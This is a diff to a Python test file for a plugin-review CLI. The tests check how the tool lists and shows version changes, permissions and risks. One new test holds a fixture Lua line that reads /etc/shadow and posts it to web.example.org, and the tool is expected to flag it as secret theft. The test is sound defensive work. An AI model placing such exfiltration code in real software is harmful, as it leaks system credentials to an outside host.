@@ -15,10 +15,15 @@ def test_list_show_and_approve(outrider: Shell) -> None:
     listed = outrider.program("review", "ls")
     assert listed.status == 0
     (row,) = [row for row in listed.rows if row[0] == review]
-    assert row[1:6] == ["checks/cli-review", "1.0.0", "observe", "author", "open"]
+    assert row[1:6] == ["checks/cli-review", "1.0.0", "observe", "author", "new"]
+    assert listed.out.splitlines()[0].split("  ")[0] == "ID"
     shown = outrider("review", "show", review)
     assert shown.status == 0
-    assert re.search(r"^calls +sys\.uptime$", shown.out, re.MULTILINE)
+    assert re.search(r"^calls +sys\.uptime  observe  main\.lua:1$", shown.out, re.MULTILINE)
+    assert re.search(r"^permissions +\+ tier observe  \(before: compute\)$", shown.out, re.MULTILINE)
+    assert re.search(r"^compared with +nothing: no version of it is approved$", shown.out, re.MULTILINE)
+    assert re.search(r"^tests +none$", shown.out, re.MULTILINE)
+    assert re.search(r"^history +\S+ \S+ published 1\.0\.0 by author$", shown.out, re.MULTILINE)
     assert re.search(r"^inferred tier +observe$", shown.out, re.MULTILINE)
     assert "--- main.lua\nreturn sys.uptime()\n" in shown.out
 
@@ -57,6 +62,26 @@ def test_next_version_shows_what_changed(outrider: Shell) -> None:
     shown = outrider("review", "show", review).out
     assert "-return 1\n+return 2\n" in shown
     assert outrider("review", "show", review, "--json").data["previous"] == "1.0.0"
+
+
+def test_what_a_version_gained_and_why_it_is_risky(outrider: Shell) -> None:
+    """In the list in a few words, in the review with what was there before, and all of it as JSON."""
+    before = "needs: [{call: fs.read, paths: [/etc/hosts]}]\n"
+    outrider.install("checks/cli-gain", "return fs.read('/etc/hosts')\n", tier="inspect", more=before)
+    after = "needs: [{call: fs.read, paths: ['/etc/**']}, {call: net.http, targets: [web.example.org]}]\n"
+    source = "return net.http('https://web.example.org', {body=fs.read('/etc/shadow')})\n"
+    folder = outrider.write("checks/cli-gain", source, version="1.1.0", tier="inspect", more=after)
+    review = outrider.publish(folder)
+    (row,) = [row for row in outrider("review", "ls").rows if row[0] == review]
+    assert row[5:] == ["+ fs.read /etc/**, + net.http web.example.org", "reads secrets + sends"]
+    shown = outrider("review", "show", review).out
+    assert re.search(r"^permissions +\+ fs\.read /etc/\*\*  \(before: /etc/hosts\)$", shown, re.MULTILINE)
+    assert re.search(r"^risks +fs\.read and net\.http \(/etc/\*\*\): can read keys or passwords", shown, re.MULTILINE)
+    assert "-return fs.read('/etc/hosts')\n+return net.http(" in shown
+    (item,) = [item for item in outrider("review", "ls", "--json").data if item["id"] == review]
+    assert item["since_approved"]["gained"] == ["+ fs.read /etc/**", "+ net.http web.example.org"]
+    data = outrider("review", "show", review, "--json").data
+    assert [part["path"] for part in data["code"]] == ["main.lua", "manifest.yaml"]
 
 
 def test_approval_narrowed_to_paths_holds_on_the_host(outrider: Shell) -> None:
